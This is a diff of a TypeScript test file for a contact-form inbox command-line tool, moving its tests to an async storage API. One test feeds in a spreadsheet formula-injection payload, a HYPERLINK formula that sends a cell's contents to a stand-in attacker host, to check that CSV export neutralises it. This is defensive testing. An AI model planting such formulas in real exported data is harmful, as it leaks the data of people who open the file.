@@ -1,12 +1,13 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { DatabaseSync } from 'node:sqlite';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { EXIT } from '../../../src/lib/cli.ts';
 import { type InboxCommand, parseInboxArgs, runInboxCommand } from '../../../src/lib/contact/inbox.ts';
-import { createOutbox, type Outbox } from '../../../src/lib/contact/outbox.ts';
-import { openDatabase } from '../../../src/lib/store/database.ts';
+import type { Outbox } from '../../../src/lib/contact/outbox.ts';
+import { createLogger } from '../../../src/lib/log.ts';
+import { openStore, type Store } from '../../../src/lib/store/store.ts';
+import { TEST_DATABASE } from '../../support/stores.ts';
 
 describe('reading the arguments of npm run inbox', () => {
   test.each([
@@ -39,44 +40,44 @@ describe('reading the arguments of npm run inbox', () => {
 
 describe('the inbox commands', () => {
   let dir: string;
-  let db: DatabaseSync;
+  let db: Store;
   let outbox: Outbox;
   beforeEach(() => {
     dir = mkdtempSync(join(tmpdir(), 'site-forms-inbox-'));
-    db = openDatabase(dir);
-    outbox = createOutbox(db);
+    db = openStore({ ...TEST_DATABASE, url: undefined, dataDir: dir }, createLogger({ level: 'silent' }));
+    outbox = db.outbox;
   });
-  afterEach(() => {
-    db.close();
+  afterEach(async () => {
+    await db.close();
     rmSync(dir, { recursive: true, force: true });
   });
 
-  function insert(row: { createdAt: string; name: string; email: string; message: string; status?: string; lastError?: string; sentAt?: string }): number {
-    return Number(
-      db
-        .prepare('INSERT INTO submissions (created_at, name, email, message, status, last_error, sent_at, next_attempt_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?)')
-        .run(
-          row.createdAt,
-          row.name,
-          row.email,
-          row.message,
-          row.status ?? 'pending',
-          row.lastError ?? null,
-          row.sentAt ?? null,
-          row.status === 'pending' || !row.status ? row.createdAt : null,
-        ).lastInsertRowid,
+  async function insert(row: { createdAt: string; name: string; email: string; message: string; status?: string; lastError?: string; sentAt?: string }): Promise<number> {
+    const inserted = await db.sql.get<{ id: number }>(
+      'INSERT INTO submissions (created_at, name, email, message, status, last_error, sent_at, next_attempt_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?) RETURNING id',
+      [
+        row.createdAt,
+        row.name,
+        row.email,
+        row.message,
+        row.status ?? 'pending',
+        row.lastError ?? null,
+        row.sentAt ?? null,
+        row.status === 'pending' || !row.status ? row.createdAt : null,
+      ],
     );
+    return Number(inserted!.id);
   }
 
-  function run(command: InboxCommand) {
+  async function run(command: InboxCommand) {
     let out = '';
     let err = '';
-    const code = runInboxCommand(command, { outbox, out: (t) => (out += t), err: (t) => (err += t), now: () => new Date('2026-06-01T12:00:00.000Z') });
+    const code = await runInboxCommand(command, { outbox, out: (t) => (out += t), err: (t) => (err += t), now: () => new Date('2026-06-01T12:00:00.000Z') });
     return { code, out, err };
   }
 
-  test('list shows id, time, name, email and status, newest first, in aligned columns', () => {
-    insert({
+  test('list shows id, time, name, email and status, newest first, in aligned columns', async () => {
+    await insert({
       createdAt: '2026-05-01T08:00:00.000Z',
       name: 'Ada Lovelace',
       email: 'ada@example.org',
@@ -84,7 +85,7 @@ describe('the inbox commands', () => {
       status: 'sent',
       sentAt: '2026-05-01T08:00:01.000Z',
     });
-    insert({
+    await insert({
       createdAt: '2026-05-02T09:30:00.000Z',
       name: 'Bob',
       email: 'bob@example.net',
@@ -92,7 +93,7 @@ describe('the inbox commands', () => {
       status: 'failed',
       lastError: 'EENVELOPE 550: no',
     });
-    expect(run({ name: 'list' })).toEqual({
+    await expect(run({ name: 'list' })).resolves.toEqual({
       code: EXIT.ok,
       err: '',
       out: [
@@ -104,16 +105,16 @@ describe('the inbox commands', () => {
     });
   });
 
-  test('list cuts long names and addresses and aligns wide characters by the columns they take', () => {
-    insert({
+  test('list cuts long names and addresses and aligns wide characters by the columns they take', async () => {
+    await insert({
       createdAt: '2026-05-01T08:00:00.000Z',
       name: 'Maximilian Alexander Freiherr von Humboldt',
       email: 'maximilian.alexander.humboldt@universitaet.example',
       message: 'A long name.',
     });
-    insert({ createdAt: '2026-05-02T09:30:00.000Z', name: '山田太郎', email: 'taro@example.jp', message: 'A wide name.' });
-    insert({ createdAt: '2026-05-03T10:45:00.000Z', name: 'Zoe\u0308 👩‍💻', email: 'zoe@example.org', message: 'Combining and emoji.' });
-    expect(run({ name: 'list' }).out.split('\n')).toEqual([
+    await insert({ createdAt: '2026-05-02T09:30:00.000Z', name: '山田太郎', email: 'taro@example.jp', message: 'A wide name.' });
+    await insert({ createdAt: '2026-05-03T10:45:00.000Z', name: 'Zoe\u0308 👩‍💻', email: 'zoe@example.org', message: 'Combining and emoji.' });
+    expect((await run({ name: 'list' })).out.split('\n')).toEqual([
       'ID  RECEIVED (UTC)       NAME                      EMAIL                             STATUS',
       '3   2026-05-03 10:45:00  Zoe\u0308 👩‍💻                    zoe@example.org                   pending',
       '2   2026-05-02 09:30:00  山田太郎                  taro@example.jp                   pending',
@@ -122,15 +123,15 @@ describe('the inbox commands', () => {
     ]);
   });
 
-  test('list says so on stderr when there is nothing yet', () => {
-    expect(run({ name: 'list' })).toEqual({ code: EXIT.ok, out: '', err: 'No contact messages yet.\n' });
+  test('list says so on stderr when there is nothing yet', async () => {
+    await expect(run({ name: 'list' })).resolves.toEqual({ code: EXIT.ok, out: '', err: 'No contact messages yet.\n' });
   });
 
-  test('show prints the whole message and its delivery history', () => {
-    const id = insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada Lovelace', email: 'ada@example.org', message: 'Line one,\nline two.' });
-    outbox.markRetry(id, new Date('2026-05-01T08:00:01.000Z'), new Date('2026-05-01T08:00:31.000Z'), 'ESOCKET: connect ECONNREFUSED');
-    outbox.markSent(id, new Date('2026-05-01T08:00:31.500Z'));
-    expect(run({ name: 'show', id })).toEqual({
+  test('show prints the whole message and its delivery history', async () => {
+    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada Lovelace', email: 'ada@example.org', message: 'Line one,\nline two.' });
+    await outbox.markRetry(id, new Date('2026-05-01T08:00:01.000Z'), new Date('2026-05-01T08:00:31.000Z'), 'ESOCKET: connect ECONNREFUSED');
+    await outbox.markSent(id, new Date('2026-05-01T08:00:31.500Z'));
+    await expect(run({ name: 'show', id })).resolves.toEqual({
       code: EXIT.ok,
       err: '',
       out: [
@@ -150,41 +151,41 @@ describe('the inbox commands', () => {
     });
   });
 
-  test('show turns terminal escape sequences in a message into visible replacement characters', () => {
-    const id = insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Eve', email: 'eve@example.org', message: 'Hi \u001b[2Jthere, friend.' });
-    const { out } = run({ name: 'show', id });
+  test('show turns terminal escape sequences in a message into visible replacement characters', async () => {
+    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Eve', email: 'eve@example.org', message: 'Hi \u001b[2Jthere, friend.' });
+    const { out } = (await run({ name: 'show', id }));
     expect(out).not.toContain('\u001b');
     expect(out).toContain('Hi \uFFFD[2Jthere, friend.');
   });
 
-  test('show of an id that does not exist exits 1 and says so on stderr', () => {
-    expect(run({ name: 'show', id: 99 })).toEqual({ code: EXIT.notFound, out: '', err: 'No contact message #99. See npm run inbox -- list.\n' });
+  test('show of an id that does not exist exits 1 and says so on stderr', async () => {
+    await expect(run({ name: 'show', id: 99 })).resolves.toEqual({ code: EXIT.notFound, out: '', err: 'No contact message #99. See npm run inbox -- list.\n' });
   });
 
-  test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', () => {
-    insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
-    expect(run({ name: 'export', format: 'csv' }).out).toBe(
+  test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', async () => {
+    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
+    expect((await run({ name: 'export', format: 'csv' })).out).toBe(
       'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n' +
         '1,2026-05-01T08:00:00.000Z,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01T08:00:00.000Z,,\r\n',
     );
   });
 
-  test('export --format csv writes a name or message a spreadsheet would run as a formula as text (OWASP)', () => {
-    insert({
+  test('export --format csv writes a name or message a spreadsheet would run as a formula as text (OWASP)', async () => {
+    await insert({
       createdAt: '2026-05-01T08:00:00.000Z',
       name: '=HYPERLINK("http://evil.test/?x="&C2,"Click")',
       email: 'eve@example.org',
       message: '@SUM(1,2) then more',
     });
-    expect(run({ name: 'export', format: 'csv' }).out).toBe(
+    expect((await run({ name: 'export', format: 'csv' })).out).toBe(
       'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n' +
         `1,2026-05-01T08:00:00.000Z,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01T08:00:00.000Z,,\r\n`,
     );
   });
 
-  test('export --format json prints one JSON array with every field', () => {
-    insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
-    const { out, err, code } = run({ name: 'export', format: 'json' });
+  test('export --format json prints one JSON array with every field', async () => {
+    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
+    const { out, err, code } = (await run({ name: 'export', format: 'json' }));
     expect({ code, err }).toEqual({ code: EXIT.ok, err: '' });
     expect(JSON.parse(out)).toEqual([
       {
@@ -202,23 +203,23 @@ describe('the inbox commands', () => {
     ]);
   });
 
-  test('export of an empty inbox is an empty array and a header row', () => {
-    expect(JSON.parse(run({ name: 'export', format: 'json' }).out)).toEqual([]);
-    expect(run({ name: 'export', format: 'csv' }).out).toBe('id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n');
+  test('export of an empty inbox is an empty array and a header row', async () => {
+    expect(JSON.parse((await run({ name: 'export', format: 'json' })).out)).toEqual([]);
+    expect((await run({ name: 'export', format: 'csv' })).out).toBe('id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n');
   });
 
-  test('retry puts a failed message back in the queue, due at once, with the requeue in its history', () => {
-    const id = insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
-    outbox.markFailed(id, new Date('2026-05-01T08:00:01.000Z'), 'EENVELOPE 550: no such user');
-    expect(run({ name: 'retry', id })).toMatchObject({ code: EXIT.ok, out: expect.stringContaining(`#${id} is pending again`) });
-    expect(outbox.find(id)).toMatchObject({ status: 'pending', attempts: 0, nextAttemptAt: '2026-06-01T12:00:00.000Z' });
-    expect(outbox.due(new Date('2026-06-01T12:00:00.000Z'), 10).map((s) => s.id)).toEqual([id]);
-    expect(outbox.history(id).map((e) => e.outcome)).toEqual(['failed', 'requeued']);
+  test('retry puts a failed message back in the queue, due at once, with the requeue in its history', async () => {
+    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
+    await outbox.markFailed(id, new Date('2026-05-01T08:00:01.000Z'), 'EENVELOPE 550: no such user');
+    await expect(run({ name: 'retry', id })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining(`#${id} is pending again`) });
+    await expect(outbox.find(id)).resolves.toMatchObject({ status: 'pending', attempts: 0, nextAttemptAt: '2026-06-01T12:00:00.000Z' });
+    expect((await outbox.claim(new Date('2026-06-01T12:00:00.000Z'), new Date('2026-06-01T12:02:00.000Z')))?.id).toBe(id);
+    expect((await outbox.history(id)).map((e) => e.outcome)).toEqual(['failed', 'requeued']);
   });
 
-  test('retry of a pending message changes nothing; of a sent one, exits 1; of a missing one, exits 1', () => {
-    const pending = insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
-    const sent = insert({
+  test('retry of a pending message changes nothing; of a sent one, exits 1; of a missing one, exits 1', async () => {
+    const pending = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
+    const sent = await insert({
       createdAt: '2026-05-01T08:00:00.000Z',
       name: 'Bob',
       email: 'bob@example.org',
@@ -226,10 +227,10 @@ describe('the inbox commands', () => {
       status: 'sent',
       sentAt: '2026-05-01T08:00:01.000Z',
     });
-    expect(run({ name: 'retry', id: pending })).toMatchObject({ code: EXIT.ok, out: expect.stringContaining('already pending') });
-    expect(run({ name: 'retry', id: sent })).toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('was delivered at 2026-05-01T08:00:01.000Z') });
-    expect(run({ name: 'retry', id: 99 })).toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('No contact message #99') });
-    expect(outbox.history(pending)).toEqual([]);
-    expect(outbox.find(sent)?.status).toBe('sent');
+    await expect(run({ name: 'retry', id: pending })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining('already pending') });
+    await expect(run({ name: 'retry', id: sent })).resolves.toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('was delivered at 2026-05-01T08:00:01.000Z') });
+    await expect(run({ name: 'retry', id: 99 })).resolves.toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('No contact message #99') });
+    await expect(outbox.history(pending)).resolves.toEqual([]);
+    expect((await outbox.find(sent))?.status).toBe('sent');
   });
 });
